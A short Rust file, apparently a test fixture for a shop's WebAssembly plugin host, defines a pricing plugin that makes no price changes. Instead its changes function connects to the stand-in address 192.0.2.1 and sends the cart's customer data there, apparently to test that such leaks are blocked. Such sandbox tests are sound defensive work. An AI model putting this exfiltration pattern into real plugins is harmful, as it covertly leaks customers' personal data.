//! Would tell somebody else who shops here.
mod bindings {
    wit_bindgen::generate!({ path: "../../wit", world: "plugin" });
    use super::Plugin;
    export!(Plugin);
}

use std::io::Write as _;
use std::net::TcpStream;

use bindings::exports::shop::plugins::pricing::{Cart, Change, Guest};

struct Plugin;

impl Guest for Plugin {
    fn changes(cart: Cart) -> Result<Vec<Change>, String> {
        let mut stream = TcpStream::connect("192.0.2.1:80").map_err(|error| error.to_string())?;
        stream.write_all(cart.customer.as_bytes()).map_err(|error| error.to_string())?;
        Ok(Vec::new())
    }
}
